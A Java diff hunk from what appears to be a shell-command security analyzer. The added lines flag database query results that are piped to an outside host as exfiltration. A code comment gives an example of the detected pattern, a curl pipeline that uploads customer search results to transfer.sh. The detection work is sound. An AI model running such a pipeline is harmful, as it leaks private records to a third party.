@@ -332,6 +332,13 @@ final class ShellWalk {
             }
             Optional<String> file = rows.isEmpty() ? Optional.empty() : RowsToFile.target(stage, this);
             file.ifPresent(f -> rows.forEach(i -> operations.set(i, DatabaseOps.rowsWrittenTo(operations.get(i), f))));
+            if (!rows.isEmpty()) {
+                // curl …/customers/_search | curl -T - https://transfer.sh/…: the rows go to a third party
+                List<Integer> leaving = List.copyOf(rows);
+                Flows.rowsLeave(stage, this).ifPresent(host -> leaving.forEach(i -> add(
+                        dev.interlock.analysis.shell.recognizers.network.NetworkRecognizer.exfiltration("query-results",
+                                "the results of " + operations.get(i).evidence().text(), host, evidence(p.span()), locators))));
+            }
             for (int i = 0; i < produced.size(); i++) {
                 if (DatabaseOps.returnsRows(produced.get(i))) {
                     rows.add(before + i);
